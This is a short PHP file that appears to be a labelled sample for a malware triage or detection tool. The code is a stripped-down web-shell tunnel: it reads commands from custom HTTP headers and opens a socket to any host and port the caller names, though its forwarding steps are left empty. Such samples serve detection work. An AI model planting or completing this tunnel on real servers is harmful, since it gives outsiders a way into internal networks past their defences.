<?php
// triage-expect: triage_php_tunnel
ini_set("allow_url_fopen", true);
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $cmd = $_SERVER['HTTP_X_CMD'];
    switch ($cmd) {
        case "CONNECT":
            $target = $_SERVER['HTTP_X_TARGET'];
            $port = (int)$_SERVER['HTTP_X_PORT'];
            $res = fsockopen($target, $port);
            stream_set_blocking($res, false);
            header('X-STATUS: OK');
            break;
        case "DISCONNECT":
            header('X-STATUS: OK');
            break;
        case "FORWARD":
            header('X-STATUS: OK');
            break;
    }
}
